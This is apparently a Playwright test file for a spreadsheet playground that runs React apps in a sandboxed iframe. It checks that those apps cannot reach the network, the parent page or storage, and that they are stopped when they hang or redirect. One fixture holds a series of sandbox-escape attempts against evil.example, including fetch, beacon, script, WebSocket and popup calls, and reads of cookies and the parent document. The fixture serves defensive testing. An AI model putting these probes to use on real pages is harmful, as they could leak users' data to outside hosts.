import { copyFile, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { BrowserContext, FrameLocator, Locator } from "playwright-core";
import { buildSite, serveSite } from "../scripts/site.ts";
import type { StaticServer } from "../scripts/static-server.ts";
import { SAMPLE_APPS } from "../src/core/apps/sample-apps.ts";
import { launchBrowser, launchProfile } from "./browser.ts";
import { PlaygroundPage } from "./playground-page.ts";

const COUNTER = SAMPLE_APPS.find(({ description }) => description.startsWith("a counter"))!.code;

/** Tries every way out that code knows of, and shows which were open. */
const ESCAPES = `function App() {
  const [open, setOpen] = useState(null);
  useEffect(() => {
    const loads = (make, set) => new Promise((done, fail) => {
      const element = make();
      element.onload = done; element.onerror = fail; set(element);
      document.body.append(element);
      setTimeout(fail, 1000);
    });
    // It does not tell whether it was refused: only that no request is seen does.
    navigator.sendBeacon("https://evil.example/?beacon", "x");
    const tries = {
      network: () => fetch("https://evil.example/?q=1", { mode: "no-cors" }),
      site: () => fetch(new URL("/functions.json", location.href.replace("app-preview.html", ""))),
      image: () => loads(() => new Image(), (i) => { i.src = "https://evil.example/i.png"; }),
      ownImage: () => loads(() => new Image(), (i) => { i.src = "icon-32.png"; }),
      script: () => loads(() => document.createElement("script"), (s) => { s.src = "https://evil.example/s.js"; }),
      socket: () => new Promise((done, fail) => { const s = new WebSocket("wss://evil.example"); s.onopen = done; s.onerror = fail; }),
      eval: () => eval("1"),
      worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = done; w.onerror = fail; }),
      peers: () => new RTCPeerConnection(),
      page: () => window.parent.document.title,
      storage: () => localStorage.length,
      cookies: () => document.cookie,
      popup: () => { if (window.open("https://evil.example") === null) throw 1; },
      top: () => { window.top.location.href = "https://evil.example"; },
    };
    Promise.all(Object.entries(tries).map(async ([name, run]) => {
      try { await run(); return [name]; } catch { return []; }
    })).then((names) => setOpen(names.flat()));
  }, []);
  return <p>{open === null ? "trying" : "open: " + open.join(", ")}</p>;
}`;

describe("apps in the pane of the playground", () => {
  let server: StaticServer;
  let profile: string;
  let context: BrowserContext;
  let playground: PlaygroundPage;
  let card: Locator;
  let app: FrameLocator;
  /** Requests to anywhere but the site itself. */
  const elsewhere: string[] = [];

  beforeAll(async () => {
    server = await serveSite(await buildSite(console.log), { port: 0 });
    profile = await mkdtemp(join(tmpdir(), "fewshot-apps-"));
    context = await launchProfile(profile);
    await context.route(
      (url) => url.origin !== new URL(server.url).origin && !/^(data|blob):/.test(url.protocol),
      (route) => {
        elsewhere.push(route.request().url());
        return route.abort();
      },
    );
    playground = await PlaygroundPage.open(context, server.url);
    card = playground.page.getByRole("region", { name: "App preview" });
    app = card.frameLocator("iframe");
  });

  afterAll(async () => {
    await context.close();
    await server.close();
    await rm(profile, { recursive: true, force: true });
  });

  /** Puts code into a cell and selects it. */
  async function look(code: string): Promise<void> {
    await playground.newSheet();
    await playground.write("B2:B2", [[code]]);
    await playground.select("B2");
    await card.waitFor();
  }

  it("runs code that stands in a cell, and shows nothing for other text", async () => {
    await look(COUNTER);
    await app.getByRole("button", { name: "Add one" }).click();
    await app.getByText("1", { exact: true }).waitFor();
    await playground.write("A2:A2", [["Lima"]]);
    await playground.select("A2");
    await card.waitFor({ state: "detached" });
  });

  it("reaches neither the network nor the page, and no address is asked for", async () => {
    await look(ESCAPES);
    await app.getByText(/^open:/).waitFor({ timeout: 15_000 });
    expect(await app.locator("p").first().innerText()).toBe("open:");
    expect(elsewhere).toEqual([]);
    expect(playground.page.url()).toBe(server.url);
  });

  it.each([
    ["another site", "https://evil.example/?q=all"],
    ["the site itself", "index.html?q=all"],
  ])("is removed when it goes to %s", async (_, address) => {
    await look(`function App() { useEffect(() => { location.href = "${address}"; }, []); return <p>x</p>; }`);
    await card.getByText("it tried to go to another page").waitFor();
    expect(await card.locator("iframe").count()).toBe(0);
    expect(elsewhere).toEqual([]);
  });

  it.each(["while (true) {}", "for (;;) { try { throw 1; } catch {} }"])(
    "is stopped in an endless loop: %s",
    async (loop) => {
      await look(`function App() { return <button onClick={() => { ${loop} }}>Go</button>; }`);
      await app.getByRole("button", { name: "Go" }).click({ noWaitAfter: true });
      await card.getByText("a loop in it came to no end").waitFor();
      await app.getByRole("button", { name: "Go" }).waitFor();
    },
  );

  it("is removed where it hangs without a loop of its own, while the page goes on", async () => {
    await look('function App() { return <p>{/^(a+)+$/.test("a".repeat(60) + "b")}</p>; }');
    await card.getByText("it no longer answered").waitFor({ timeout: 15_000 });
    expect(await card.locator("iframe").count()).toBe(0);
  });

  it.each([
    ["function App() {\n  return <b>Hi</i>;\n}", "does not read as React code, at line 2"],
    ["function App() { return <b>{total}</b>; }", "uses “total”, but never says what that is"],
    [
      "function App() { const n = items.length; const items = []; return <b>{n}</b>; }",
      "uses “items” before it says what that is",
    ],
    [
      "function App() { const [on, set] = useState(false); if (on) useEffect(() => {}); return <b ref={() => set(true)} />; }",
      "calls useState or another hook only sometimes",
    ],
    [
      "const [n, set] = useState(0); function App() { return <b>{n}</b>; }",
      "calls useState or another hook only sometimes, or outside its component",
    ],
    ["import x from 'lodash'; function App() { return <b/>; }", "asks for “lodash”. Only React is there."],
    ["function App() { const [n, set] = useState(0); set(n + 1); return <b/>; }", "never comes to an end"],
  ])("says in plain words what is wrong: %s", async (code, words) => {
    await look(code);
    await card.getByText(words).first().waitFor();
  });

  it("tries changed code at once, and saves it as a page that works without a network", async () => {
    await look(COUNTER);
    await card.getByLabel("Code of the app").fill(COUNTER.replace("count + 1", "count + 5"));
    await card.getByRole("button", { name: "Run", exact: true }).click();
    await app.getByRole("button", { name: "Add one" }).click();
    await app.getByText("5", { exact: true }).waitFor();

    const download = playground.page.waitForEvent("download");
    await card.getByRole("button", { name: "Save as a page" }).click();
    const file = await (await download).path();
    const browser = await launchBrowser();
    try {
      const offline = await browser.newContext({ offline: true });
      const page = await offline.newPage();
      const saved = join(profile, "app.html");
      await copyFile(file, saved);
      await page.goto(`file://${saved}`);
      await page.getByRole("button", { name: "Add one" }).click();
      await page.getByText("5", { exact: true }).waitFor();
    } finally {
      await browser.close();
    }
  });

  it("come from a description by the real model, and an edit of one becomes an example", async () => {
    await playground.modelReady();
    await playground.showSheet("Describe an app");
    const [code] = await playground.settled(
      "B12:B12",
      (value) => typeof value === "string" && value !== "#N/A",
      120_000,
    );
    expect(String(code)).toMatch(/^function App\(\) \{\n[^]*\n\}$/);
    await playground.select("B12");
    // Until then the app of the test before stands there.
    await playground.page.waitForFunction(
      (written) => [...document.querySelectorAll("textarea")].some(({ value }) => value === written),
      String(code),
    );
    await app.getByRole("button").click();
    await app.locator("p", { hasText: "Goodbye" }).waitFor();

    const edited = COUNTER.replace("count + 1", "count - 1");
    await card.getByLabel("Code of the app").fill(edited);
    await card.getByRole("button", { name: "Keep in the cell" }).click();
    await playground.settled("B12:B12", (value) => value === edited);
    await playground.formula("B13", "=GPT.CODE(A13)");
    await playground.settled(
      "B13:B13",
      (value) => typeof value === "string" && value.includes("return"),
      120_000,
    );
    await playground.select("B13");
    const selected = playground.page.getByRole("region", { name: "Selected cell" });
    await selected.getByText("count - 1").first().waitFor();

    // A formula that names its examples takes the kept code on request.
    await playground.formula("B13", "=GPT.CODE(A13, $A$2:$B$11)");
    await playground.select("B14");
    await playground.page.getByRole("button", { name: "Learn from all, in 1 cell" }).click();
    await playground.page.getByText("now learns from all finished rows").first().waitFor();
    expect(await playground.formulaOf("B13")).toBe("=GPT.CODE(A13)");
  });

  it("that were typed are kept in their cells once they are changed", async () => {
    await look(COUNTER);
    const keep = card.getByRole("button", { name: "Keep in the cell" });
    expect(await keep.count()).toBe(0);
    const edited = COUNTER.replace("count + 1", "count + 7");
    await card.getByLabel("Code of the app").fill(edited);
    await keep.click();
    await playground.settled("B2:B2", (value) => value === edited);
    // Until the pane shows the kept code, the app of before stands there.
    await keep.waitFor({ state: "detached" });
    await app.getByRole("button", { name: "Add one" }).click();
    await app.getByText("7", { exact: true }).waitFor();
    await playground.page.getByText("Code kept in the cell.").first().waitFor();

    await playground.write("B3:B3", [[COUNTER]]);
    await playground.formula("D2", "=B2:B3");
    await playground.settled("D3:D3", (value) => value === COUNTER);
    await playground.select("D3");
    await card.getByLabel("Code of the app").fill(edited);
    await keep.click();
    await playground.page.getByText("The formula of another cell fills this one").first().waitFor();
    expect(await playground.values("D2:D3")).toEqual([[edited], [COUNTER]]);
  });
});
